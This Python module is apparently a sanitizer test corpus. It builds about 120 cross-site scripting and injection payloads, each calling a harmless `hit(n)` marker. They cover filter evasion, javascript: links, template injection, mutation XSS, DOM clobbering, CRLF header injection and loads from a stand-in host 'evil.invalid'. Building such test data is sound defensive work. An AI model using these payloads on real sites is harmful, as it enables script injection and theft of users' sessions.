"""A hundred and twenty ways in which words become a script, a link or a part of the page.

Each calls `hit(n)` with its own number where it works. Sources of the classes: OWASP's filter evasion and DOM
clobbering sheets, ASVS 1.2 and 1.3, the mutations that serialising and parsing again brings about.
"""

# Out of the place where words usually stand: text, attributes of three kinds, elements whose content is raw.
WAYS_OUT = (
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "</noscript>",
    "</template>",
    "]]>",
)
# And in again.
WAYS_IN = (
    "<script>hit({n})</script>",
    "<img src=x onerror=hit({n})>",
    "<svg/onload=hit({n})>",
    "<details open ontoggle=hit({n})>",
    "<iframe srcdoc='<script>parent.hit({n})</script>'></iframe>",
    "<input autofocus onfocus=hit({n})>",
)
ALONE = (
    # Scripts that a filter of words overlooks.
    "<ScRiPt>hit({n})</sCrIpT>",
    "<script\t>hit({n})</script\n>",
    "<script/x>hit({n})</script/y>",
    "<<script>hit({n})//<</script>",
    "<script src=data:text/javascript,hit({n})></script>",
    "<scr<script>ipt>hit({n})</scr</script>ipt>",
    "<svg><script>hit&#40;{n}&#41;</script></svg>",
    "<script type=module>top.hit({n})</script>",
    # Elements that do something by themselves.
    "<body onload=hit({n})>",
    "<video><source onerror=hit({n})></video>",
    "<audio src=x onerror=hit({n})>",
    "<object data=javascript:hit({n})></object>",
    "<embed src=javascript:parent.hit({n})>",
    "<iframe src=javascript:parent.hit({n})></iframe>",
    "<marquee onstart=hit({n})>x</marquee>",
    "<style onload=hit({n})></style>",
    "<link rel=stylesheet href=//evil.invalid/{n} onerror=hit({n})>",
    "<meta http-equiv=refresh content='0;url=javascript:hit({n})'>",
    "<base href=//evil.invalid/{n}/>",
    "<x onanimationend=hit({n}) style='animation:im-fade 1ms'>x</x>",
    "<svg><animate onbegin=hit({n}) attributeName=x dur=1s>",
    # Links that are followed.
    "javascript:hit({n})",
    "JaVaScRiPt:hit({n})",
    "java\tscript:hit({n})",
    "\x01javascript:hit({n})",
    "javascript&colon;hit({n})",
    "data:text/html,<script>opener.hit({n})</script>",
    "<a href=javascript:hit({n})>x</a>",
    "<a href='&#106;avascript:hit({n})'>x</a>",
    "<form action=javascript:hit({n})><button>x</button></form>",
    "<button formaction=javascript:hit({n}) form=f>x</button>",
    "<math><maction xlink:href=javascript:hit({n})>x</maction></math>",
    "[x](javascript:hit({n}))",
    # Attributes, opened by each quotation mark or by none.
    '" onmouseover=hit({n}) autofocus onfocus=hit({n}) x="',
    "' autofocus onfocus=hit({n}) x='",
    "` autofocus onfocus=hit({n}) x=`",
    "x autofocus onfocus=hit({n})",
    '" style="background:url(//evil.invalid/{n})',
    '" hx-on:htmx:load="hit({n})" hx-get="/x" hx-trigger="load',
    '<i hx-get="//evil.invalid/{n}" hx-trigger="load" hx-on::load="hit({n})"></i>',
    # Templates, on the server and in the page.
    "{{{{ hit({n}) }}}}{{% debug %}}{{{{ 7|add:7 }}}}",
    "${{hit({n})}}#{{hit({n})}}<%= hit({n}) %>",
    "{{{{constructor.constructor('hit({n})')()}}}}",
    # Strings within scripts and data within pages.
    '";hit({n});//',
    "';hit({n});//",
    '\\";hit({n});//',
    "\\u003c/script\\u003e\\u003cscript\\u003ehit({n})\\u003c/script\\u003e",
    "\u2028hit({n})\u2029",
    "<!--<script>hit({n})//-->",
    # Written in another way, for whoever decodes once too often.
    "&lt;script&gt;hit({n})&lt;/script&gt;",
    "&amp;lt;img src=x onerror=hit({n})&amp;gt;",
    "%3Cscript%3Ehit({n})%3C/script%3E",
    "\uff1cscript\uff1ehit({n})\uff1c/script\uff1e",
    "+ADw-script+AD4-hit({n})+ADw-/script+AD4-",
    # Mutations: harmless when parsed once, not when what came of it is parsed again.
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit({n})&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=hit({n})>'>",
    "<svg></p><style><a id='</style><img src=x onerror=hit({n})>'>",
    "<select><template shadowrootmode=open><img src=x onerror=hit({n})></template></select>",
    # Names that hide the page's own.
    "<form id=htmx name=htmx><input name=parentNode></form><img name=cookie><a id=hit href=x></a>",
    "\r\nContent-Type: text/html\r\n\r\n<script>hit({n})</script>",
)
PAYLOADS = [
    kind.format(n=n)
    for n, kind in enumerate([*(out + way for out in WAYS_OUT for way in WAYS_IN), *ALONE], start=1)
]
